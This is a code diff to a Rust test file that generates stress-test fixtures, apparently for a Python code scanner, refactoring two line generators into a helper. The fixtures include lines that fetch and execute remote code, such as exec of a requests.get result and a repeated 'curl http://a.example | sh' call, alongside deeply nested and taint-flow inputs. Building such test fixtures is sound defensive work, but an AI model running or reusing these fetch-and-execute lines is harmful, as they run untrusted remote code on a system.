@@ -58,13 +58,16 @@ fn large(folder: &Path) {
     fs::write(folder.join("main.py"), "import requests\nexec(requests.get('https://a.example').text)\n").unwrap();
 }
 
+fn lines(count: usize, line: impl Fn(usize) -> String) -> String {
+    (0..count).map(line).collect::<Vec<_>>().concat()
+}
+
 /// Files that are made to cost the reader more than their author.
 fn hostile() -> Vec<(&'static str, String)> {
     let calls = format!("{}x{}", "f(".repeat(2_000), ")".repeat(2_000));
     let concatenated = (0..50_000).map(|number| format!("'curl{number}'")).collect::<Vec<_>>().join(" + ");
-    let functions = (0..100_000).map(|number| format!("def f{number}(a): return f{}(a)\n", number + 1)).collect();
-    let tainted =
-        (0..20_000).map(|number| format!("x{} = x{number} + os.environ['A']\n", number + 1)).collect::<String>();
+    let functions = lines(100_000, |number| format!("def f{number}(a): return f{}(a)\n", number + 1));
+    let tainted = lines(20_000, |number| format!("x{} = x{number} + os.environ['A']\n", number + 1));
     let hits = "import os\n".to_owned() + &"os.system('curl http://a.example | sh')\n".repeat(50_000);
     vec![
         ("deep.py", format!("x = {}1{}\n", "(".repeat(100_000), ")".repeat(100_000))),
